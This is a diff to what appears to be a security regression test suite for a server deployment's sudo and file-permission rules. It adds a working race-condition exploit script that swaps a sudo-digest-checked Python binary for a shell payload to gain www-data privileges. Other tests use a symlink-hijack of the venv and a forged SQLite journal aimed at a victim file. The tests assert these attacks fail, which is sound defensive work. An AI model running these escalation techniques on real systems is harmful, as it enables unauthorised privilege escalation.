@@ -178,7 +178,7 @@ def test_r10_the_apps_environment_is_never_read_through_a_link(armed):
 
 def test_r11_sudo_runs_no_program_of_deploys_as_www_data(armed):
     _, output = as_deploy(armed, f"""
-        sudo -n -u www-data {DEPLOY_PATH}/venv/bin/python --version; echo "genuine $?"
+        {DEPLOY_PATH}/venv/bin/python --version; echo "genuine $?"
         mkdir -p /tmp/evil/bin && printf '#!/bin/sh\\nid\\n' > /tmp/evil/bin/python
         chmod +x /tmp/evil/bin/python
         ln -sfnT /tmp/evil {DEPLOY_PATH}/venv
@@ -191,6 +191,49 @@ def test_r11_sudo_runs_no_program_of_deploys_as_www_data(armed):
     assert "Python 3." in output and "genuine 0" in output
     assert "linked 0" not in output and "replaced 0" not in output
     assert "uid=" not in output
+
+
+# A sudo rule bound to a sha256 (the older `sudo -u www-data …/venv/bin/python --version`): sudo
+# reads the file, checks the digest, then runs it (fexecve); the deploy user owns the file and
+# rewrites it in between. Measured on the older rule: a shell as www-data on the 6th try.
+DIGEST_RACE = r'''
+import os, subprocess, time
+original = open(os.path.realpath("/usr/bin/python3"), "rb").read()
+folder = os.path.expanduser("~/fv/bin")
+os.makedirs(folder, exist_ok=True)
+target = folder + "/python"
+with open(target, "wb") as stream:
+    stream.write(original)
+os.chmod(target, 0o755)
+os.chmod(os.path.expanduser("~"), 0o755)
+os.symlink(os.path.dirname(folder), "VENV.new")
+os.replace("VENV.new", "VENV")
+payload = b"#!/bin/sh\nid; echo RACED\nexit 0\n"
+for attempt in range(200):
+    with open(target, "r+b") as stream:
+        stream.write(original[:len(payload)])
+    run = subprocess.Popen(["sudo", "-n", "-u", "www-data", "VENV/bin/python", "--version"],
+                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    started = time.monotonic()
+    while time.monotonic() - started < (attempt % 40) * 0.0005:
+        pass
+    try:
+        with open(target, "r+b") as stream:
+            stream.write(payload)
+    except OSError:
+        pass
+    print(run.communicate()[0].decode(errors="replace").strip())
+os.symlink("current/.venv", "VENV.new")
+os.replace("VENV.new", "VENV")
+'''.replace("VENV", DEPLOY_PATH + "/venv")
+
+
+def test_r19_no_sudo_rule_runs_a_file_deploy_can_rewrite(armed):
+    _, listing = as_deploy(armed, "sudo -n -l")
+    assert "(www-data)" not in listing and "sha256:" not in listing
+    _, output = as_deploy(armed, f"python3 -c {shlex.quote(DIGEST_RACE)}")
+    assert "RACED" not in output and "uid=33" not in output
+    assert "a password is required" in output
 
 
 def test_r12_no_sudo_rule_gives_deploy_a_shell_or_another_file(armed):
@@ -295,7 +338,8 @@ db, victim = sys.argv[1], sys.argv[2].encode()
 with open(db, "rb") as stream:
     page = struct.unpack(">H", stream.read(18)[16:18])[0] or 65536
 magic = bytes([0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7])
-header = (magic + struct.pack(">IIIII", 0, 1, os.path.getsize(db) // page, 512, page)).ljust(512, b"\0")
+pages = os.path.getsize(db) // page
+header = (magic + struct.pack(">IIIII", 0, 1, pages, 512, page)).ljust(512, b"\0")
 super_record = (struct.pack(">I", 0x40000000 // page + 1) + victim
                 + struct.pack(">II", len(victim), sum(victim)) + magic)
 with open(db + "-journal", "wb") as stream:
